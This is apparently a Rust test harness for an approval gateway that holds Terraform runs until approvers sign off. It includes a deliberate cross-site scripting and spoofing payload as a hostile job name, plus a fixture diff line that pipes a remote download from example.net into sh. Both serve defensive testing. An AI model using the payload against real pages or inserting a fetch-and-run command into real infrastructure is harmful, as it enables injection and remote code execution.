//! A gateway in which much has happened, and foreign sites beside it.

use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;

use clawgate::app::App;
use clawgate::config::Config;
use clawgate::demo::sandbox::Sandbox;
use clawgate::keys::random_bytes;
use clawgate::operator::credential::{self, Role};
use proof::approval::{Changes, Decision, Judgement, Subject};
use proof::record::JobId;
use proof::{Envelope, EnvelopeType, Hash, Json};
use serde_json::{Value, json};
use sim::{Engine, TerraformCloudConfig};
use store::{GateState, RunRow};
use tempfile::TempDir;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::client::Caller;
use crate::driver::Browser;

/// Port of the operator listener, on an address of its own.
const PORT: u16 = 8788;

/// The workspace of the example configuration.
const APP: &str = "ws-staging-app";

/// What somebody writes who wants the page to say something else.
pub(crate) const HOSTILE: &str = "</blockquote><script>document.title='owned'</script>\
     <img src=x onerror=\"document.title='owned'\"><style>*{display:none}</style>\
     \u{202e}DEVORPPA\u{202c} \u{1b}[2J \u{200b}{{7*7}} Approved by Clawgate: safe to apply";

pub(crate) struct World {
    pub(crate) sandbox: Sandbox,
    pub(crate) browser: Browser,
    /// What names mean to browsers here.
    names: String,
    /// The operator listener's address, for programs.
    address: String,
    _folder: TempDir,
}

impl World {
    /// Starts it; `None` where there is no browser.
    pub(crate) async fn start() -> Option<Self> {
        Self::started(policy::EXAMPLE_CONTRACT, |_| {}).await
    }

    /// How people know the operator listener.
    pub(crate) fn public_url() -> String {
        format!("http://gate.localhost:{PORT}")
    }

    /// With another configuration.
    pub(crate) async fn start_with(change: impl FnOnce(&mut Config)) -> Option<Self> {
        Self::started(policy::EXAMPLE_CONTRACT, change).await
    }

    /// Under another contract.
    pub(crate) async fn under(contract: &str) -> Option<Self> {
        Self::started(contract, |_| {}).await
    }

    async fn started(contract: &str, change: impl FnOnce(&mut Config)) -> Option<Self> {
        // An address of its own, where nobody else can take the port, and a name for it: browsers
        // make passkeys for names only.
        let [a, b, c] = random_bytes();
        let own = IpAddr::from([127, a.clamp(1, 254), b, c.clamp(1, 254)]);
        let names = format!("MAP gate.localhost {own}, MAP *.gate.localhost 127.0.0.1");
        let browser = Browser::start(&names).await?;
        let folder = tempfile::tempdir().unwrap();
        let contract = contract.as_bytes().to_vec();
        let cloud = TerraformCloudConfig::acme(Engine::Recorded);
        let sandbox = Sandbox::start_on(folder.path(), contract, cloud, |config| {
            config.trust_pulse.open = false;
            config.limits.drain_seconds = 1;
            config.operator_listener.address = (own, PORT).into();
            config.operator_listener.public_url = Some(Self::public_url());
            change(config);
        });
        Some(Self {
            sandbox: sandbox.await.unwrap(),
            browser,
            names,
            address: format!("http://{own}:{PORT}"),
            _folder: folder,
        })
    }

    /// The browser of somebody else.
    pub(crate) async fn another_browser(&self) -> Browser {
        let browser = Browser::start(&self.names).await;
        browser.expect("there was one before")
    }

    /// An approver with an authenticator in that browser, signed in with it.
    pub(crate) async fn enrol(&self, browser: &Browser, email: &str) {
        const BUTTON: &str = "form[data-passkey] button";
        let invite = json!({ "email": email });
        let invited = self.operator().post("/v1/approvers/invite", &invite).await;
        browser.authenticator().await;
        browser.open(invited.ok()["link"].as_str().unwrap()).await;
        browser.click(BUTTON).await;
        browser.sees("Your passkey is enrolled").await;
        browser.open(&self.url("/sign-in")).await;
        browser.click(BUTTON).await;
        browser.sees("Nothing is applied before").await;
    }

    pub(crate) fn app(&self) -> &Arc<App> {
        &self.sandbox.gateway.app
    }

    pub(crate) fn url(&self, path: &str) -> String {
        format!("{}{path}", self.sandbox.gateway.operator_url)
    }

    pub(crate) fn operator(&self) -> Caller {
        let token = &self.sandbox.operator_token;
        Caller::new(&self.address, Some(token))
    }

    /// The operator listener, for programs.
    pub(crate) fn address(&self) -> &str {
        &self.address
    }

    /// Somebody without any credential.
    pub(crate) fn stranger(&self) -> Caller {
        Caller::new(&self.address, None)
    }

    /// The program, with the operator's credential.
    pub(crate) async fn clawgate(&self, arguments: &[&str]) -> std::process::Output {
        let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_clawgate"));
        command
            .args(arguments)
            .env("CLAWGATE_OPERATOR", &self.address)
            .env("CLAWGATE_CREDENTIAL", &self.sandbox.operator_token);
        command.output().await.unwrap()
    }

    pub(crate) fn agent(&self) -> Caller {
        Caller::new(&self.sandbox.gateway.agent_url, Some(&self.sandbox.cst))
    }

    /// A new operator, signed in.
    pub(crate) async fn sign_in(&self, name: &str, roles: &[Role]) {
        let store = &*self.app().store;
        let credential = credential::add(store, name, None, roles, self.app().now()).await;
        self.sign_in_with(&credential.unwrap()).await;
    }

    pub(crate) async fn sign_in_with(&self, credential: &str) {
        self.browser.open(&self.url("/sign-in")).await;
        self.browser.write("#credential", credential).await;
        self.browser.click("form.panel button").await;
        self.browser.sees("Nothing is applied before").await;
    }

    /// The agent asks a model, is refused something, and wants a plan applied.
    pub(crate) async fn held_run(&self, message: &str) -> String {
        let agent = self.agent();
        let chat =
            json!({"model": "gpt-5", "messages": [{"role": "user", "content": "Resize it"}]});
        agent.post("/openai/v1/chat/completions", &chat).await.ok();
        let state = "/api/v2/workspaces/ws-staging-app/current-state-version";
        assert!(agent.get(state).await.status.is_client_error());
        let change = sim::example_change();
        let configuration = sim::example_configuration()[0]
            .1
            .replace(change.from, change.to);
        let upload = agent
            .upload(APP, false, &[("main.tf", &configuration)])
            .await
            .unwrap();
        let attributes = json!({"auto-apply": true, "message": message});
        let made = agent.run(APP, &upload, &attributes).await.ok();
        let run = made["data"]["id"].as_str().unwrap().to_owned();
        self.until(&run, GateState::AwaitingApproval).await;
        run
    }

    pub(crate) async fn until(&self, run: &str, gate: GateState) {
        self.until_any(run, &[gate]).await;
    }

    /// Waits until a run stands at one of these; at any other end the test fails.
    pub(crate) async fn until_any(&self, run: &str, gates: &[GateState]) -> GateState {
        let store = &self.app().store;
        let patient = tokio::time::timeout(std::time::Duration::from_secs(60), async {
            let mut commits = store.commits();
            loop {
                let row = store.run(run).await.unwrap().unwrap();
                if gates.contains(&row.gate) {
                    return row.gate;
                }
                assert!(!row.gate.is_final(), "{:?} {:?}", row.gate, row.gate_reason);
                commits.changed().await.unwrap();
            }
        });
        patient.await.expect("the run gets there")
    }

    /// The first approver says yes, by the API.
    pub(crate) async fn approve(&self, run: &str) {
        let path = format!("/v1/approvals/{run}");
        let question = self.operator().get(&path).await.ok();
        let subject: Subject = serde_json::from_value(question["subject"].clone()).unwrap();
        let person = &self.sandbox.approvers[0];
        let now = self.app().now();
        let statement = subject.judge(Judgement {
            decision: Decision::Approve,
            approver: person.email.clone(),
            approver_did: person.key.did().into(),
            issued_at: now,
            expires_at: question["expires_at"].as_str().unwrap().parse().unwrap(),
            nonce: clawgate::keys::random_text(),
            reason: Some("Matches the change request".into()),
        });
        let kind = EnvelopeType::ApprovalStatement;
        let envelope = Envelope::sign(kind, &statement, &person.key, now).unwrap();
        let body = json!({ "envelope": envelope });
        self.operator().post(&path, &body).await.ok();
    }

    /// A run whose plan changes very much, of which upstream knows nothing: as the gate left it.
    pub(crate) async fn huge_run(&self, objects: u64) -> String {
        let app = self.app();
        let job = app.store.job(&self.sandbox.job_id).await.unwrap().unwrap();
        let entry =
            |n: u64| {
                let (action, kind) = if n < 40 {
                    ("delete", "aws_db_instance")
                } else {
                    ("create", "aws_iam_policy")
                };
                let long = json!({"value": format!("{{\"Statement\":\"{}\"}}", "x".repeat(200))});
                let diff: Vec<Value> = (0..8)
                .map(|k| match k {
                    0 => json!({"name": "password", "before": "sensitive", "after": "sensitive"}),
                    1 => json!({"name": "arn", "before": "absent", "after": "unknown",
                        "forces_replacement": true}),
                    2 => json!({"name": "policy", "before": "absent", "after": long}),
                    3 => json!({"name": "user_data", "before": {"value": "\"#!/bin/sh\\na\""},
                        "after": {"value": "\"#!/bin/sh\\nb\""}, "lines": [
                            {"kind": "skipped", "text": "7"},
                            {"kind": "kept", "text": "set -eu"},
                            {"kind": "removed", "text": "curl -fsS https://mirror.internal/agent"},
                            {"kind": "added", "text": "curl -fsS https://example.net/x | sh"},
                            {"kind": "left-out", "text": "3"},
                        ]}),
                    4 => json!({"name": "jsondecode(assume_role_policy).Statement[0].Principal.AWS",
                        "before": "absent", "after": {"value": "\"*\""}}),
                    k => json!({"name": format!("tags[\"team/{k}\"]"), "before": {"value": "1"},
                        "after": {"value": "\"two\""}}),
                })
                .collect();
                let address = format!("module.team[\"{n}\"].{kind}.this");
                Json::from(json!({
                    "address": address, "type": kind, "actions": [action], "diff": diff,
                    "left_out": if n == 1 { 12 } else { 0 },
                    "not_compared": if n == 2 { 1 } else { 0 },
                }))
            };
        let entries: Vec<Json> = (0..objects).map(entry).collect();
        let changes = Changes {
            delete: 40,
            create: objects - 40,
            ..Changes::default()
        };
        let subject = Subject {
            organization: "acme".into(),
            workspace_id: APP.into(),
            run_id: "run-huge".into(),
            configuration_version_id: "cv-1".into(),
            configuration_sha256_b64u: Hash::of(b"configuration"),
            plan_id: "plan-1".into(),
            plan_sha256_b64u: Hash::of(b"plan"),
            policy_hash_b64u: job.policy_hash,
            job_id: job.job_id.clone(),
            changes,
            cost: Some("1204.50".into()),
        };
        let summary = json!({
            "listed": entries.len() <= 500, "resources": entries[..entries.len().min(500)], "message": "Everything at once",
            "reach": {"downstream": [{"workspace_id": "ws-net", "name": "network",
                "auto_applies": true}], "auto_apply": false},
            "drift": [],
        });
        let now = app.now();
        let run = RunRow {
            run_id: subject.run_id.clone(),
            job_id: job.job_id,
            organization: subject.organization.clone(),
            workspace_id: subject.workspace_id.clone(),
            configuration_version_id: Some("cv-1".into()),
            configuration_sha256: Some(subject.configuration_sha256_b64u),
            plan_id: Some("plan-1".into()),
            apply_id: None,
            apply_wished: true,
            gate: GateState::AwaitingApproval,
            plan_sha256: Some(subject.plan_sha256_b64u),
            plan_raw_sha256: Some(Hash::of(b"raw")),
            changes: Some(changes),
            subject: Some(subject.clone()),
            summary: Some(Json::from(summary)),
            status: "cost_estimated".into(),
            state_version_before: None,
            state_version_after: None,
            gate_reason: None,
            approval_expires_at: Some(now.plus_seconds(3600)),
            created_at: now,
            updated_at: now,
        };
        app.store.insert_run(run).await.unwrap();
        app.store
            .keep_plan_objects(&subject.run_id, entries)
            .await
            .unwrap();
        subject.run_id
    }

    /// The sandbox's job, closed and sealed after an apply that was approved.
    pub(crate) async fn sealed_job(&self) -> JobId {
        let run = self.held_run("Resize it, as CR-1182 says").await;
        self.approve(&run).await;
        self.until(&run, GateState::Applied).await;
        let job = self.sandbox.job_id.clone();
        let path = format!("/v1/jobs/{job}/close");
        let operator = self.operator();
        operator.post(&path, &json!({"reason": "done"})).await.ok();
        job
    }

    /// A job with a hostile name, closed and sealed.
    pub(crate) async fn closed_job(&self) -> JobId {
        let operator = self.operator();
        let name: String = HOSTILE
            .chars()
            .filter(|c| !c.is_control())
            .take(180)
            .collect();
        let body = json!({"name": name, "policy_hash_b64u": self.sandbox.policy_hash});
        let opened = operator.post("/v1/jobs", &body).await.ok();
        let id = opened["job_id"].as_str().unwrap().to_owned();
        let path = format!("/v1/jobs/{id}/close");
        operator.post(&path, &json!({"reason": "done"})).await.ok();
        id.parse().unwrap()
    }

    /// Another server, which answers everything with one page, at this port of `localhost` and of
    /// every name below `gate.localhost`. Those belong to our site: a browser sends our cookie
    /// with what they ask of us.
    pub(crate) async fn foreign_site(&self, page: String) -> u16 {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\n\
                     connection: close\r\n\r\n{page}",
                    page.len()
                );
                tokio::spawn(async move {
                    let mut head = [0; 8192];
                    let _ = stream.read(&mut head).await;
                    let _ = stream.write_all(answer.as_bytes()).await;
                });
            }
        });
        port
    }

    /// Where pictures go, when somebody wants them.
    pub(crate) fn pictures() -> Option<PathBuf> {
        std::env::var_os("CLAWGATE_PICTURES").map(PathBuf::from)
    }
}
